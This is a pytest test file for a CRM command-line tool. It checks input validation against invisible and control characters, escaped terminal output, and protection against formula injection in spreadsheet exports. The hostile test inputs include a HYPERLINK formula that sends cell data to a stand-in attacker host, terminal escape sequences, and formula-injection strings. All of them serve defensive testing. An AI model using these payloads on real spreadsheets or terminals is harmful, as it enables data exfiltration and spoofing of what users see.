"""Names and notes are clean at input, on every path; what was stored before is shown
escaped on the terminal; spreadsheets write text as text (issue 15, point 6)."""

from __future__ import annotations

import json
import sqlite3

import pytest
from openpyxl import Workbook, load_workbook

from tests.conftest import TODAY
from vipcrm.cli import main
from vipcrm.domain.errors import ValidationError
from vipcrm.reports import sheets
from vipcrm.reports.dashboard_xlsx import COLUMNS, export_dashboard
from vipcrm.services.context import resolve_actor
from vipcrm.services.dashboard import team_dashboard
from vipcrm.store.db import open_database
from vipcrm.store.models import Member, MemberNote


@pytest.fixture
def demo_db(tmp_path):
    path = tmp_path / "demo.db"
    assert main(["--db", str(path), "demo", "--seed", "3", "--members", "20"]) == 0
    return path


def _count(path, table: str) -> int:
    with sqlite3.connect(path) as conn:
        return conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("王\u202e伟", "U+202E"),
        ("\x1b[31m王伟", "U+001B"),
        ("王\u200b伟", "U+200B"),
        ("王\u2066伟", "U+2066"),
        ("王\x00伟", "U+0000"),
    ],
)
def test_a_name_with_hidden_characters_is_refused_with_a_clear_error(demo_db, capsys, name, code):
    before = _count(demo_db, "members")
    args = ["--db", str(demo_db), "--user", "M001", "member", "add"]
    assert main([*args, "--phone", "13912345678", "--name", name, "--tier", "gold"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1
    assert err.startswith("vipcrm: error: name: contains an invisible") and code in err
    assert "\x1b" not in err and "\u202e" not in err
    assert _count(demo_db, "members") == before


def test_a_note_keeps_its_lines_but_not_control_characters(demo_db, capsys):
    args = ["--db", str(demo_db), "--user", "M001", "contact", "log"]
    with sqlite3.connect(demo_db) as conn:
        phone = conn.execute(
            "SELECT m.phone FROM members m JOIN managers g ON g.id = m.manager_id "
            "WHERE g.code = 'M001' LIMIT 1"
        ).fetchone()[0]
    call = [*args, "--member", phone, "--channel", "phone", "--outcome", "reached"]
    before = _count(demo_db, "contact_attempts")
    assert main([*call, "--note", "清屏\x1b[2J"]) == 2
    assert "note: contains a control or text-direction character (U+001B)" in (
        capsys.readouterr().err
    )
    assert main([*call, "--note", "回\u202e拨"]) == 2
    capsys.readouterr()
    assert _count(demo_db, "contact_attempts") == before
    assert main([*call, "--note", "第一行\n第二行\t备注"]) == 0
    assert _count(demo_db, "contact_attempts") == before + 1


def test_every_session_write_is_held_to_the_rule(tmp_path):
    """The guarantee behind the services: any path writing through a session."""
    db = open_database(tmp_path / "x.db")
    try:
        with db.transaction() as s:
            member = Member(phone="13800138000", name="王伟", tier="gold")
            s.add(member)
        for bad in (
            lambda s: s.add(MemberNote(member_id=member.id, text="\x00")),
            lambda s: setattr(s.get(Member, member.id), "name", "王\u202e伟"),
            lambda s: setattr(s.get(Member, member.id), "address", "一行\n二行"),
        ):
            with pytest.raises(ValidationError), db.transaction() as s:
                bad(s)
        with db.reading() as s:
            assert s.get(Member, member.id).name == "王伟"
            assert s.query(MemberNote).count() == 0
    finally:
        db.dispose()


def test_stored_text_is_shown_escaped_on_the_terminal(demo_db, capsys):
    """A name stored before names were checked (or by another tool) reaches the terminal
    as visible escapes; JSON stays JSON and reads back as the stored text."""
    evil = "\x1b]0;pwned\x07\x1b[31m王\u202e伟"
    with sqlite3.connect(demo_db) as conn:
        conn.execute(
            "UPDATE members SET name = ? WHERE id = (SELECT m.id FROM members m JOIN managers g "
            "ON g.id = m.manager_id WHERE g.code = 'M001' ORDER BY m.phone LIMIT 1)",
            (evil,),
        )
    args = ["--db", str(demo_db), "--user", "M001", "member", "list"]
    assert main(args) == 0
    out = capsys.readouterr().out
    for ch in ("\x1b", "\x07", "\u202e"):
        assert ch not in out
    assert "\\u001b]0;pwned\\u0007\\u001b[31m王\\u202e伟" in out
    assert main([*args, "--json"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out
    assert evil in {m["name"] for m in json.loads(out)}


def test_the_dashboard_writes_names_as_text_never_as_formulas(demo_db, tmp_path):
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "=1+1",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\x1b[31m红",
    ]
    with sqlite3.connect(demo_db) as conn:
        managers = [
            r[0]
            for r in conn.execute("SELECT id FROM managers WHERE role = 'manager' ORDER BY code")
        ]
        for manager, name in zip(managers, hostile, strict=False):
            conn.execute("UPDATE managers SET name = ? WHERE id = ?", (name, manager))
    db = open_database(demo_db)
    try:
        with db.reading() as s:
            board = team_dashboard(s, resolve_actor(s, "L01"), today=TODAY)
    finally:
        db.dispose()
    out = export_dashboard(board, tmp_path / "board.xlsx", "en")
    sheet = load_workbook(out).active
    names = {}
    for cells in sheet.iter_rows(min_row=3):
        by = dict(zip(COLUMNS, cells, strict=True))
        names[by["name"].value] = by["name"]
        assert by["book"].data_type == "n"  # numbers stay numbers
    written = [n for n in hostile[: len(managers)] if not n.startswith("\x1b")]
    assert len(written) >= 2
    for name in written:
        cell = names[name]
        assert cell.data_type == "s" and cell.quotePrefix, name
    if len(managers) == len(hostile):
        assert "\\u001b[31m红" in names


def test_a_sheet_row_keeps_numbers_and_makes_formula_text_text(tmp_path):
    wb = Workbook()
    wb.active.append(sheets.row(["=1+1", -5, -2.5, "-5", "普通", "@x", "\x07铃"]))
    sheets.text_stays_text(wb)
    wb.save(tmp_path / "t.xlsx")
    cells = list(load_workbook(tmp_path / "t.xlsx").active[1])
    assert [c.data_type for c in cells] == ["s", "n", "n", "s", "s", "s", "s"]
    assert [c.value for c in cells][:3] == ["=1+1", -5, -2.5]
    assert cells[6].value == "\\u0007铃"
    assert [c.quotePrefix for c in cells] == [True, False, False, True, False, True, False]
